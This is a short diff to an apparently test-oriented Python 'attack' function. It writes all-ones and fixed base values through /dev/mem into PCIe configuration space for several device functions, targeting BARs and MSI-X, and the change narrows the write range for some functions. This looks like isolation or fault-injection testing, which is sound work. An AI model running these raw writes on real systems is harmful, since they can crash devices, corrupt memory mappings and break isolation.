@@ -61,8 +61,10 @@ def write_all(shared, start, size, value):
 def attack(shared):
     """By /dev/mem, so that nothing of Linux's stands before it: its bridge, the functions that it has, the
     neighbour's, others' places; all ones, and what would move BARs and MSI-X."""
-    for function in (0, 1, 2, 3, 8):
+    for function in (2, 3):
         write_all(shared, ECAM + (function << 15), 0x100, 0xFFFFFFFF)
+    for function in (0, 1, 8):
+        write_all(shared, ECAM + (function << 15), amount(0x40, 0x100), 0xFFFFFFFF)
     write_all(shared, ECAM + (2 << 15) + 0x10, 0x18, 0x10000000)
     write_all(shared, ECAM + (3 << 15) + 0x10, 0x18, 0x10000000)
     write_all(shared, ECAM + (2 << 15) + 0x100, 0x40, 0xFFFFFFFF)
